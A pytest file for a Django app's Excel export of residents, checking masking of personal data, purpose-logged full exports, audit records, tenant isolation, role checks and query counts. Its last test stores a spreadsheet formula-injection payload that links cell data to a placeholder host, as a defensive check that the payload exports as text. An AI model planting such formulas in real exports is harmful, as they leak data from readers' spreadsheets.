"""Exporting residents to Excel: masked unless revealed with a purpose, every export
audited, a fixed number of queries whatever the number of rows."""

from io import BytesIO

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from firstline.core.models import AccessLog, AuditEvent
from firstline.core.personal.crypto import seal
from firstline.core.personal.identity import id_check_char
from firstline.estates.models import AuditAction, Building, Household, Resident, Site
from firstline.geo.models import Division
from firstline.orgs.models import Company, RoleAssignment

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("estates:resident_export")
HEADER = [
    "项目",
    "楼栋",
    "单元",
    "房号",
    "姓名",
    "手机号",
    "身份证号",
    "出生年份",
    "关系",
    "独居老人",
    "残障",
    "慢性病",
    "孕妇",
]


@pytest.fixture(autouse=True)
def strict(settings):
    settings.FIRSTLINE_STRICT_FETCH = True  # a lazy load the export did not join raises
    settings.FIRSTLINE_REQUIRE_2FA = False


@pytest.fixture
def world():
    community = Division.objects.create(code="420106001001", name="临江社区", level=5)
    company = Company.objects.create(
        name="江城物业", credit_code="91420106MA4K000101", division=community
    )
    other = Company.objects.create(
        name="汉口物业", credit_code="91420102MA4K000202", division=community
    )
    site = Site.all_tenants.create(company=company, name="临江花园", community=community)
    foreign = Site.all_tenants.create(company=other, name="汉口里", community=community)
    return {"company": company, "other": other, "site": site, "foreign": foreign}


def person(n: int) -> tuple[str, str]:
    first17 = f"420106199001{n % 28 + 1:02d}{n % 1000:03d}"
    return f"139{n:08d}", first17 + id_check_char(first17)


def add_residents(site: Site, count: int, *, start: int = 0) -> list[Resident]:
    building = Building.all_tenants.get_or_create(
        company_id=site.company_id, site=site, name="1栋"
    )[0]
    rows = []
    for n in range(start, start + count):
        household = Household.all_tenants.create(
            company_id=site.company_id, site=site, building=building, unit="1", room=f"{n + 101}"
        )
        phone, id_number = person(n)
        p, i = seal("phone", phone), seal("id_number", id_number)
        rows.append(
            Resident(
                company_id=site.company_id,
                site=site,
                household=household,
                name=f"居民{n}",
                birth_year=1990,
                relation="owner",
                lives_alone_elderly=n % 2 == 0,
                phone_enc=p.enc,
                phone_hmac=p.hmac,
                phone_last4=p.last4,
                phone_masked=p.masked,
                id_number_enc=i.enc,
                id_number_hmac=i.hmac,
                id_number_last4=i.last4,
                id_number_masked=i.masked,
            )
        )
    return Resident.all_tenants.bulk_create(rows)


def login(client, django_user_model, world, role="site_manager"):
    user = django_user_model.objects.create_user(username=role, password="x-unused-9")
    site = world["site"] if role != "company_admin" else None
    RoleAssignment.objects.create(user=user, role=role, company=world["company"], site=site)
    client.force_login(user)
    return user


def sheet(response) -> list[list]:
    assert response.status_code == 200, response.content[:500]
    wb = openpyxl.load_workbook(BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]


def test_masked_export_shows_only_masked_values(client, django_user_model, world):
    user = login(client, django_user_model, world)
    add_residents(world["site"], 3)
    add_residents(world["foreign"], 2, start=50)

    rows = sheet(client.get(EXPORT_URL, {"site": world["site"].pk}))

    assert rows[0] == HEADER
    phone, id_number = person(0)
    assert rows[1] == [
        "临江花园",
        "1栋",
        "1",
        "101",
        "居民0",
        phone[:3] + "****" + phone[-4:],
        id_number[:4] + "*" * 10 + id_number[-4:],
        1990,
        "业主",
        "是",
        "否",
        "否",
        "否",
    ]
    assert len(rows) == 4  # the other company's residents are not there
    assert all("****" in r[5] and "**********" in r[6] for r in rows[1:])
    audit = AuditEvent.objects.get(action=AuditAction.RESIDENTS_EXPORT)
    assert (audit.actor_id, audit.company_id, audit.object_type, audit.object_id) == (
        user.pk,
        world["company"].pk,
        "estates.site",
        str(world["site"].pk),
    )
    assert audit.changes == {"rows": 3, "full": False}
    assert not AccessLog.all_tenants.exists()


def test_export_without_site_covers_the_scope(client, django_user_model, world):
    login(client, django_user_model, world, role="company_admin")
    add_residents(world["site"], 2)
    add_residents(world["foreign"], 2, start=50)

    rows = sheet(client.get(EXPORT_URL))

    assert [r[4] for r in rows[1:]] == ["居民0", "居民1"]
    audit = AuditEvent.objects.get(action=AuditAction.RESIDENTS_EXPORT)
    assert (audit.object_type, audit.object_id, audit.changes) == (
        "orgs.company",
        str(world["company"].pk),
        {"rows": 2, "full": False},
    )


def test_full_export_with_purpose_is_plain_and_logged(client, django_user_model, world):
    user = login(client, django_user_model, world)
    add_residents(world["site"], 2)

    rows = sheet(
        client.post(
            EXPORT_URL,
            {"site": world["site"].pk, "full": "on", "purpose": "向街道报送独居老人名单"},
        )
    )

    assert [r[5:7] for r in rows[1:]] == [list(person(0)), list(person(1))]
    log = AccessLog.all_tenants.get()
    assert (log.actor_id, log.company_id, log.site_id, log.field, log.purpose) == (
        user.pk,
        world["company"].pk,
        world["site"].pk,
        "export",
        "向街道报送独居老人名单",
    )
    assert AuditEvent.objects.get(action=AuditAction.RESIDENTS_EXPORT).changes == {
        "rows": 2,
        "full": True,
    }


def test_full_export_needs_a_purpose(client, django_user_model, world):
    login(client, django_user_model, world)
    add_residents(world["site"], 2)

    response = client.post(EXPORT_URL, {"site": world["site"].pk, "full": "on", "purpose": "  "})

    assert response.status_code == 400
    assert "purpose" in response.context["export_form"].errors
    assert not AccessLog.all_tenants.exists()
    assert not AuditEvent.objects.filter(action=AuditAction.RESIDENTS_EXPORT).exists()


def test_full_cannot_be_asked_for_in_a_link(client, django_user_model, world):
    login(client, django_user_model, world)
    add_residents(world["site"], 1)

    rows = sheet(
        client.get(EXPORT_URL, {"site": world["site"].pk, "full": "on", "purpose": "随便看看看看"})
    )

    assert "****" in rows[1][5]
    assert not AccessLog.all_tenants.exists()


def test_another_companys_site_is_not_found(client, django_user_model, world):
    login(client, django_user_model, world)
    add_residents(world["foreign"], 2)

    response = client.get(EXPORT_URL, {"site": world["foreign"].pk})

    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action=AuditAction.RESIDENTS_EXPORT).exists()


def test_a_guard_may_not_export(client, django_user_model, world):
    login(client, django_user_model, world, role="guard")

    assert client.get(EXPORT_URL).status_code == 403


@pytest.mark.parametrize("full", [False, True])
def test_query_count_does_not_grow_with_rows(client, django_user_model, world, full):
    login(client, django_user_model, world)
    data = {"site": world["site"].pk, "full": "on" if full else "", "purpose": "核对返汉人员身份"}

    def queries_for_export() -> int:
        with CaptureQueriesContext(connection) as ctx:
            sheet(client.post(EXPORT_URL, data))
        return len(ctx.captured_queries)

    add_residents(world["site"], 5)
    five = queries_for_export()
    add_residents(world["site"], 45, start=5)
    fifty = queries_for_export()

    assert five == fifty


FORMULA = '=HYPERLINK("http://x"&A1,"点击")'


@pytest.mark.parametrize("full", [False, True])
def test_a_name_written_as_a_formula_comes_back_as_text(client, django_user_model, world, full):
    login(client, django_user_model, world, role="company_admin")
    [resident] = add_residents(world["site"], 1)
    Resident.all_tenants.filter(pk=resident.pk).update(name=FORMULA)

    if full:
        response = client.post(
            EXPORT_URL, {"site": world["site"].pk, "full": "1", "purpose": "核对居民名单信息"}
        )
    else:
        response = client.get(EXPORT_URL, {"site": world["site"].pk})

    assert response.status_code == 200
    # Not read-only: the cell's type and style are what this is about.
    ws = openpyxl.load_workbook(BytesIO(b"".join(response.streaming_content))).worksheets[0]
    name = ws.cell(row=2, column=HEADER.index("姓名") + 1)
    assert name.value == FORMULA
    assert name.data_type == "s"  # a string, not "f": no spreadsheet runs it
    assert name.quotePrefix  # and it stays text when someone edits the cell
    assert ws.cell(row=2, column=HEADER.index("出生年份") + 1).value == 1990  # numbers stay numbers
